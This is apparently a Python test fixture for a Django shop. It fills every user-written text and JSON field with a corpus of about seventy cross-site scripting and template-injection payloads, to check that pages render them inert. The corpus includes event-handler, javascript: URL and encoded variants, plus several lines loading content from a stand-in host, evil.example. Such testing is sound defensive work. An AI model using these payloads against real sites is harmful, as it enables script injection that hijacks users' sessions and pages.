"""A shop in which every text that somebody wrote is an attack on who reads it."""

from collections.abc import Iterator
from itertools import cycle
from typing import Any

from django.apps import apps
from django.db.models import CharField, Field, JSONField, Model, SlugField, TextField

from fulfillment.delivery.manual import take_up
from fulfillment.delivery.models import Fulfillment, HandDelivery
from fulfillment.delivery.shipping import Parcel, ship
from kameng.lib import clock
from kameng.lib.append_only import lifted
from kameng.notices.alarms import raise_alarm
from kameng.tasks.models import FailingRow
from kameng.tasks.registry import run_all
from shop.orders.models import Order
from shop.orders.place import Item, place
from shop.payments.models import RefusedNotice
from tests import factories as f
from tests.admin.people import staff
from tests.storefront.asking import ROLE, top_up

#: `p()` is the probe; each of these would call it where the text is read as anything else than text.
CORPUS = [
    "<script>p()</script>",
    "<ScRiPt>p()</sCrIpT>",
    "<script src=//evil.example></script>",
    "<script/x>p()</script>",
    "</script><script>p()</script>",
    "</title><script>p()</script>",
    "</textarea><script>p()</script>",
    "</style><script>p()</script>",
    "</template><script>p()</script>",
    "</noscript><script>p()</script>",
    "--><script>p()</script>",
    "]]><script>p()</script>",
    "<<script>p();//<</script>",
    "<img src=x onerror=p()>",
    "<IMG SRC=x OnErRoR=p()>",
    "<img/src=x/onerror=p()>",
    "<img src=x onerror=p`1`>",
    "<img src=`x` onerror=p()>",
    "<img src=x\tonerror=p()>",
    "<img src=x\nonerror=p()>",
    '<img src="x" onerror="p()">',
    "<img src='x' onerror='p()'>",
    '"><img src=x onerror=p()>',
    "'><img src=x onerror=p()>",
    "`><img src=x onerror=p()>",
    "<svg onload=p()>",
    "<svg/onload=p()>",
    "<svg><script>p()</script></svg>",
    "<svg><animate onbegin=p() attributeName=x dur=1s>",
    "<svg><a href=javascript:p()><text>x</text></a>",
    "<math><a xlink:href=javascript:p()>x</a></math>",
    "<body onload=p()>",
    "<input autofocus onfocus=p()>",
    "<select autofocus onfocus=p()>",
    "<textarea autofocus onfocus=p()>",
    "<video><source onerror=p()>",
    "<video src=x onerror=p()>",
    "<audio src=x onerror=p()>",
    "<details open ontoggle=p()>",
    "<marquee onstart=p()>x</marquee>",
    "<object data=javascript:p()>",
    "<embed src=javascript:p()>",
    "<iframe src=javascript:parent.p()>",
    "<iframe srcdoc='<script>parent.p()</script>'>",
    "<iframe onload=p()>",
    "<a href=javascript:p()>x</a>",
    "<a href=java&#115;cript:p()>x</a>",
    "<form action=javascript:p()><button autofocus>x",
    "<button formaction=javascript:p()>x",
    "<meta http-equiv=refresh content='0;url=javascript:p()'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<p style=animation-name:x onanimationstart=p()>",
    '" onmouseover=p() x="',
    "' autofocus onfocus=p() x='",
    '" autofocus onfocus="p()',
    "javascript:p()",
    "&lt;script&gt;p()&lt;/script&gt;",
    "&#60;img src=x onerror=p()&#62;",
    "\\u003cimg src=x onerror=p()\\u003e",
    "\uff1cscript\uff1ep()\uff1c/script\uff1e",
    "{{constructor.constructor('p()')()}}",
    "${p()}",
    "<b x-init=p() x-data>",
    "<b hx-get=/ hx-trigger=load hx-on::load=p()>",
    "<% p() %>",
    "%3Cscript%3Ep()%3C/script%3E",
]
#: What the house writes itself and reads again: names of states, places, people and keys; never a person's words.
OWN = {
    *("password", "sealed", "fingerprint", "currency", "locale", "actor", "holder", "address", "contact", "owner"),
    *("digest", "previous", "gateway", "event", "act", "role", "kind", "path", "thread", "pay_url", "notify_url"),
    *("return_url", "closed_by", "from_status", "to_status", "device", "platform_role", "controller", "trade_no", "email"),
}
#: Unique, and written by people all the same.
NAMES = {"catalog.category.name", "merchants.merchant.name"}
ROOMS = (
    "accounts",
    "catalog",
    "merchants",
    "inventory",
    "orders",
    "payments",
    "delivery",
    "notices",
    "audit",
    "ledger",
    "tasks",
)


def hostile_shop() -> Order:
    """A shop with something of everything, in which each text is an attack; the order of Alice, a member, in it."""
    alice = f.verified("Alice")
    f.gateway_account()
    delivered = f.delivered_order(by=f.buyer(user=alice), codes=CORPUS[:3])
    _by_hand()
    _shipped()
    for n in range(24):
        f.sku(units=1, of=f.listing(f"Game {n}", seller=delivered.lines.all()[0].merchant))
    # At noon, it would be over: an open order is one of this moment.
    f.place_order(by=f.buyer(user=alice))
    staff("Owner", delivered.lines.all()[0].merchant)
    now = clock.now()
    raise_alarm(key="odd", kind="odd", subject="order:1", text="Odd thing", now=now)
    RefusedNotice.objects.create(path="/pay/n/x/", body="x", reason="x", received_at=now)
    FailingRow.objects.create(controller="clock", row=7, attempts=3, since=now, next_try_at=now, problem="KeyError")
    run_all(only={"mail"})
    poison()
    return delivered


def a_row(model: type[Model]) -> Model | None:
    """One of a model's rows that has a page: the queue of handwork is a part of all deliveries."""
    rows = model._default_manager.filter(line__mode="MANUAL") if model is HandDelivery else model._default_manager.all()
    return rows.first()


def _by_hand() -> None:
    asks = [ROLE | {"help": "Where it stands"}, {"key": "note", "type": "text", "label": "Note", "required": False}]
    sold = top_up(*asks)
    item = Item(sold.pk, 1, {"role": "1082774365", "note": "Please"})
    f.pay_order(place(buyer=f.buyer(), items=[item], nonce="by-hand", now=clock.now()))
    f.verify_all()


def _shipped() -> None:
    order = f.pay_order(f.place_order(f.card_to_ship(5)))
    f.verify_all()
    row, sam = Fulfillment.objects.get(line__order=order), f.member("Sam")
    take_up(fulfillment_id=row.pk, user=sam, now=clock.now())
    ship(fulfillment_id=row.pk, user=sam, parcel=Parcel("SF Express", "SF1403000022290"), now=clock.now())


def poison() -> None:
    """Write an attack into each column that takes words, whichever way they come there."""
    attacks = cycle(CORPUS)
    with lifted():
        for model in (model for room in ROOMS for model in apps.get_app_config(room).get_models()):
            if model._meta.proxy:
                continue
            for row in model._base_manager.all():
                words = {field.name: _attack(field, row, attacks) for field in written(model)}
                if words:
                    model._base_manager.filter(pk=row.pk).update(**words)


def written(model: type[Model]) -> "list[Field[Any, Any]]":
    """The columns of a model in which somebody's words may stand."""
    label = model._meta.label_lower
    texts = [field for field in model._meta.local_fields if isinstance(field, CharField | TextField | JSONField)]
    return [
        field
        for field in texts
        if not field.choices
        and field.name not in OWN
        and (not field.unique or f"{label}.{field.name}" in NAMES)
        and (field.max_length is None or field.max_length > 2)
        and not isinstance(field, SlugField)
        and f"{label}.{field.name}" not in {"orders.lookup.number", "payments.gatewayaccount.public_id"}
    ]


def _attack(field: "Field[Any, Any]", row: Model, attacks: Iterator[str]) -> Any:
    if isinstance(field, JSONField):
        return _within(getattr(row, field.name), attacks)
    if isinstance(field, TextField) and not field.max_length:
        return "\n".join(CORPUS)
    return next(text for text in attacks if len(text) <= (field.max_length or 1000))


def _within(value: Any, attacks: Iterator[str], name: str = "") -> Any:
    """The same data, with attacks for the words in it."""
    if isinstance(value, dict):
        return {key: _within(each, attacks, key) for key, each in value.items()}
    if isinstance(value, list):
        return [_within(each, attacks, name) for each in value]
    words = name in {
        "label",
        "help",
        "example",
        "where",
        "shown",
        "title",
        "face",
        "merchant",
        "courier",
        "tracking",
        "note",
    }
    if words and isinstance(value, str):
        return next(text for text in attacks if len(text) <= 40)
    return value
